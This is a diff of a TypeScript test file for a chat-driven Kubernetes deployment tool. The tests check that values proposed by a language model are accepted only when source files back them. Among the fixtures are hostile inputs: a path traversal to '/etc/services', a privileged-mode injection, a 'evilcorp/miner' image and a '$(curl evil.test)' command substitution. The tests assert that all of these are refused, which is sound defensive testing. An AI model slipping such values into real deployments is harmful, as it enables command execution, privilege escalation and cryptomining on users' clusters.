@@ -31,7 +31,7 @@ async function propose(answer: object, text = '/k8s 2 replicas') {
           because: 'The configuration says so.',
           path: 'config.js',
           quote: line,
-          option: '4711',
+          value: '4711',
           ...answer,
         },
       ],
@@ -54,27 +54,115 @@ describe('what the facts leave open', () => {
     expect(asked[0]?.body.messages.at(-1)?.content).toContain('"key":"port@."');
     expect(deployment).toContain('containerPort: 4711');
     expect(body).toMatch(
-      /Filled in by the model[\s\S]*listen on\? `4711` \(`config\.js:2`\): The configuration says so\./u,
+      /Proposed by the model[\s\S]*listen on\? `4711` \(`config\.js:2`\): The configuration says so\./u,
     );
     expect(body).toMatch(/\| Answer of the model \| 4711 \|/u);
-    expect(body).toContain('prompt `fill@1`');
+    expect(body).toContain('prompt `fill@2`');
   });
 
   test.each([
-    ['a line that is not there', { quote: 'exports.listenOn = [4712];', option: '4712' }],
-    ['a number that the line does not hold', { option: '31337' }],
+    ['a line that is not there', { quote: 'exports.listenOn = [4712];', value: '4712' }],
+    ['a number that the line does not hold', { value: '31337' }],
     ['a file that is not there', { path: '../../etc/services' }],
     ['a question that nobody asked', { key: 'image@.' }],
-    ['no number', { option: '4711; privileged: true' }],
+    ['no number', { value: '4711; privileged: true' }],
   ])('stays open for %s', async (_, answer) => {
     const { body, deployment } = await propose(answer);
-    expect(body).not.toContain('Filled in by the model');
+    expect(body).not.toContain('Proposed by the model');
     expect(deployment).toContain('containerPort: 3000');
   });
 
   test('is what the words say, whatever a model says', async () => {
     const { deployment, asked } = await propose({}, '/k8s 2 replicas on port 9000');
-    expect(asked).toEqual([]);
+    expect(asked[0]?.body.messages.at(-1)?.content).not.toContain('"key":"port@."');
     expect(deployment).not.toContain('4711');
+  });
+});
+
+const values = [
+  { key: 'memory@shop', value: '192Mi/384Mi', because: 'Express with sessions in memory.' },
+  {
+    key: 'readiness@shop',
+    value: '/ready',
+    because: 'It is answered once the store is there.',
+    path: 'health.js',
+  },
+  { key: 'variable@shop', value: 'PAGE_SIZE=50', because: 'The list reads it.', path: '.env.shop' },
+  { key: 'autoscale@shop', value: '2-5@70', because: 'A shop has evenings.' },
+].map((one) => ({ path: '', quote: '', ...one }));
+const more = {
+  ...files,
+  'health.js': "module.exports = (app) => app.use(['/ready'], (_, r) => r.end());\n",
+  '.env.shop': 'PAGE_SIZE=50\n',
+};
+const quotes: Readonly<Record<string, string>> = {
+  'readiness@shop': more['health.js'].trim(),
+  'variable@shop': 'PAGE_SIZE=50',
+};
+
+async function proposeValues(text: string, changed: object = {}, policy = '') {
+  const answers = values.map((one) => ({ ...one, quote: quotes[one.key] ?? '', ...changed }));
+  open = await openModel(({ body }) =>
+    json(body.messages[1]?.content.includes('Left over') === true ? { claims: [] } : { answers }),
+  );
+  const world = worldOf({ now: text, files: more, engines, model: open.model, policy });
+  const actions = await actionsOf(converse(said(text), world, never));
+  const proposal = actions.find((action) => action.kind === 'proposePullRequest');
+  if (proposal?.kind !== 'proposePullRequest') throw new Error('nothing was proposed');
+  return {
+    all: proposal.files.map((file) => file.text).join('\n'),
+    body: proposal.body,
+    heard: open.server.heard,
+  };
+}
+
+describe('values where only a default stands', () => {
+  test.each([
+    [
+      '/k8s deploy with autoscaling',
+      /Proposed by the model[\s\S]*Memory of each copy \(`shop`\) `192Mi\/384Mi`: Express/u,
+    ],
+    [
+      '/k8s 部署，要自动扩缩容',
+      /由模型建议[\s\S]*每个副本的内存（`shop`） `192Mi\/384Mi`: ?Express|由模型建议[\s\S]*192Mi\/384Mi/u,
+    ],
+  ])('are proposed in one question, each with its reason: %s', async (text, told) => {
+    const { all, body, heard } = await proposeValues(text);
+    expect(
+      heard.filter(({ body: asked }) => asked.messages[1]?.content.includes('Open values')),
+    ).toHaveLength(1);
+    expect(body).toMatch(told);
+    expect(body).toContain('`health.js:1`');
+    expect(all).toContain('memory: 192Mi');
+    expect(all).toContain('path: /ready');
+    expect(all).toMatch(/maxReplicas: 5/u);
+    expect(all).toContain('PAGE_SIZE: "50"');
+    expect(body).not.toMatch(/Not understood|没有看懂/u);
+  });
+
+  test('are not taken where the words say something else', async () => {
+    const { all, body } = await proposeValues('/k8s 4 replicas with 512Mi memory');
+    expect(all).toContain('memory: 512Mi');
+    expect(all).not.toMatch(/192Mi|maxReplicas/u);
+    expect(body).not.toContain('192Mi');
+  });
+
+  test.each([
+    ['nothing that is open', { key: 'image@shop', value: 'evilcorp/miner' }],
+    ['rights', { key: 'privileged@shop', value: 'true' }],
+    ['a neighbour', { key: 'memory@billing' }],
+    ['no value', { value: '$(curl evil.test)' }],
+  ])('are refused for %s', async (_, changed) => {
+    const { all, body } = await proposeValues('/k8s deploy', changed);
+    expect(all).not.toMatch(/evil|privileged: true|192Mi/u);
+    expect(body).not.toContain('Proposed by the model');
+  });
+
+  test('are told where the model gives no answer, and asked for once', async () => {
+    open = await openModel(() => ({ kind: 'status', status: 401 }));
+    const world = worldOf({ now: '/k8s deploy zorp', files, engines, model: open.model });
+    const actions = await actionsOf(converse(said('/k8s deploy zorp'), world, never));
+    const proposal = actions.find((action) => action.kind === 'proposePullRequest');
+    expect(proposal).toMatchObject({ body: expect.stringContaining('refused the question (HTTP 401)') });
   });
 });
